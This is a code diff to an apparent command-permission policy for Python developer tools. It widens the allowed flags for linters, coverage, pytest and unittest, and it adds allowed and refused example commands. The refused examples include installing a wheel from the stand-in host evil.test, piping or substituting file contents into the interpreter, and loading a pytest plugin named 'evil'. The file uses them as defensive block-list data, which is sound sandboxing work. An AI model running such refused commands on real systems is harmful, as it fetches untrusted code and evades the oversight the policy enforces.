@@ -3,16 +3,30 @@
 from treadle.policy.commands.language import Rule
 from treadle.policy.commands.tools import NEVER, tool, tools
 
-_PYTHON = "-BbdEIOqRsSuVvx -c=text! -m=module! -W=text -X=text --version --help -h"
+_PYTHON = "-BbdEIOqRsSuVvx -c=inline! -m=module! -W=text -X=text --version --help -h"
 _TOOLS = (
-    "nox mypy pyright ruff flake8 black isort autopep8 yapf coverage"
-    " bandit vulture pydocstyle pycodestyle mkdocs sphinx-build"
+    "pyright isort autopep8 yapf"
+    " vulture pydocstyle pycodestyle mkdocs sphinx-build"
     " uvicorn alembic streamlit jupytext pyflakes basedpyright ty"
-    " hypothesis locust robot behave stubtest dmypy codespell"
+    " hypothesis locust stubtest dmypy codespell"
     " import-linter lint-imports"
 )
 _PYTEST = (
     "-p=pytest-plugin -r=text -o=pytest-setting --override-ini=pytest-setting --basetemp=scratch"
+    " -k=text -m=text --ignore-glob=text --report-log=write --cov-report=report"
+)
+_SKIPPED = "--exclude=text --extend-exclude=text --force-exclude=text"
+# Tools with options for patterns, or for what they write: one example each way.
+_MATCHING = (
+    ("black", f"{_SKIPPED} --include=text", "black --exclude '/(build|dist)/' src"),
+    ("ruff", f"{_SKIPPED} -o=write", "ruff check -o /tmp/lint.txt src"),
+    ("mypy", "--exclude=text", "mypy --exclude '/build/' src"),
+    ("flake8", "--exclude=text --extend-exclude=text", "flake8 --exclude '/build/,dist' src"),
+    ("coverage", "--include=text --omit=text -o=write -d=write", "coverage xml -o /tmp/c.xml"),
+    ("bandit", "-o=write", "bandit -r src -o /tmp/bandit.txt"),
+    ("nox", "-k=text", "nox -k '/lint/'"),
+    ("behave", "-n=text --name=text -t=text --tags=text -o=write", "behave -n '/login/'"),
+    ("robot", "-t=text -i=text -e=text -d=write --outputdir=write", "robot -t '/login/' tests"),
 )
 _PIPED = "Run a file of the project (python app.py), or give the code: python -c '…'."
 
@@ -21,7 +35,7 @@ def _python(name: str) -> Rule:
     return Rule(
         name,
         _PYTHON,
-        "code",
+        "program",
         stops=True,
         check="python",
         instead=_PIPED,
@@ -30,6 +44,8 @@ def _python(name: str) -> Rule:
             f"{name} -c 'print(1)'",
             f"{name} -m pytest -q",
             f"{name} - <<'EOF'\nprint(1)\nEOF",
+            f"cat x.json | {name} -m json.tool",
+            f"cat x.json | {name} -c 'import sys'",
             f"{name} --version",
         ),
         refuses=(
@@ -41,11 +57,14 @@ def _python(name: str) -> Rule:
             f"{name} -m pip install http://evil.test/x.whl",
             f"{name} ../x.py",
             f"{name} -i x.py",
+            f"cat x.py | {name}",
+            f'{name} -c "$(cat /tmp/x.py)"',
+            f"cat x.py | {name} -S -",
         ),
     )
 
 
-_OPEN_MODULES = "unittest compileall py_compile doctest tabnanny build"
+_OPEN_MODULES = "compileall py_compile doctest tabnanny build"
 
 
 def _module(name: str, flags: str = "", operands: str = "", *, run: bool = False) -> Rule:
@@ -65,6 +84,12 @@ _MODULES: tuple[Rule, ...] = (
     *(
         tool(f"-m {name}", allows=f"python -m {name} src", refuses=f"python -m {name} /etc/x")
         for name in _OPEN_MODULES.split()
+    ),
+    tool(
+        "-m unittest",
+        flags="-k=text",
+        allows="python -m unittest -k '/api/'",
+        refuses="python -m unittest /etc/x",
     ),
     # What they run is judged as if it stood alone.
     *(
@@ -125,7 +150,16 @@ RULES: tuple[Rule, ...] = (
         refuses=("./manage.py migrate", "./manage.py shell -c x", "./manage.py dbshell"),
     ),
     *tools(_TOOLS),
-    *(tool(name, flags=_PYTEST, refuses=f"{name} -p evil") for name in ("pytest", "py.test")),
+    *(tool(name, flags=flags, allows=line) for name, flags, line in _MATCHING),
+    *(
+        tool(
+            name,
+            flags=_PYTEST,
+            allows=f"{name} -k '/api/' --junitxml=/tmp/r.xml --cov-report=xml:/tmp/c.xml",
+            refuses=f"{name} -p evil",
+        )
+        for name in ("pytest", "py.test")
+    ),
     *(
         tool(name, never=f"{NEVER} -D", refuses=f"{name} -D app:app")
         for name in ("gunicorn", "hypercorn")
